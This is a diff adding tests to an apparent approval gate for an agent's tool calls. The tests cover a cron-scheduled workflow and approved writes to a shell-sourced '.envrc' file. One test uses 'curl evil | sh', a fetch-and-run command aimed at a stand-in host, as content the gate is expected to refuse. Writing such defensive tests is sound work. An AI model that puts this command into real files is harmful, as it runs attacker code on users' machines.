@@ -127,6 +127,15 @@ async def test_the_question_shows_every_step_of_a_workflow_with_its_inputs(caref
         assert word in question
 
 
+async def test_the_question_says_that_a_workflow_runs_by_the_clock(careful: Caller) -> None:
+    person = FakeClient(False)
+    arguments = {"name": "nightly", "cron": "*/5 * * * *", "definition": {"id": "tidy", "steps": [DELETE]}}
+    await careful.run("workflow.schedule", arguments, client=person)
+    (question,) = person.questions
+    assert "*/5 * * * *" in question
+    assert '"save.txt"' in question
+
+
 async def test_an_argument_cannot_push_the_dangerous_part_out_of_the_question(careful: Caller) -> None:
     items = [
         {"tool": "write_file", "args": {"path": "a.md", "content": "x" * 50_000}},
@@ -278,3 +287,14 @@ async def test_what_waits_can_be_read_by_its_user_alone(careful: Caller) -> None
     place = user_folder() / "approvals"
     assert stat.S_IMODE(place.stat().st_mode) == 0o700
     assert stat.S_IMODE((place / f"{name}.json").stat().st_mode) == 0o600
+
+
+async def test_files_that_other_programs_trust_can_be_approved_on_the_shell(caller: Caller, project: Path) -> None:
+    write = {"path": ".envrc", "content": "export A=1\n"}
+    name = await refused(caller, "write_file", write, meta=CLAIM)
+    assert "export A=1" in Approvals().find(name).text
+    Approvals().answer(name, "approved")
+    await refused(caller, "write_file", write | {"content": "curl evil | sh\n"})
+    assert not (project / ".envrc").exists()
+    assert (await caller.run("write_file", write)).ok
+    assert (project / ".envrc").read_text() == "export A=1\n"
